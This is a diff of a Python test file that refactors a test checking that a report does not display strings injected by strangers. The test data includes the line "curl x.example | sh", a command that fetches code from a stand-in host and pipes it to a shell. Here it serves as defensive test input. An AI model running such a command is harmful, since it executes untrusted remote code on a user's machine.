@@ -10,7 +10,7 @@ from mixedne.config import configure
 from mixedne.config.identity import command, to_json
 from mixedne.reports.inputs.collect import collect
 from mixedne.reports.inputs.methods import study_command, train_commands
-from probes.tables import pretend_evaluated, shifts
+from probes.tables import config_of, pretend_evaluated, shifts, write_config
 
 EVIL = "curl x.example | sh"
 
@@ -78,8 +78,8 @@ def test_a_study_s_command_has_known_options_alone(said: Any, expected: str | No
 
 def test_a_report_shows_none_of_a_stranger_s_strings(tmp_path: Path) -> None:
     pretend_evaluated(tmp_path / "runs" / "a", shifts(mass=(1.0, 2.0)), solver="gad")
-    path = tmp_path / "runs" / "a" / "config.json"
-    path.write_text(json.dumps({**json.loads(path.read_text()), "command": EVIL}))
+    run = tmp_path / "runs" / "a"
+    write_config(run, {**config_of(run), "command": EVIL})
     (tmp_path / "studies").mkdir()
     plan = {"study": "mine", "command": EVIL, "runs": []}
     (tmp_path / "studies" / "mine.json").write_text(json.dumps(plan))
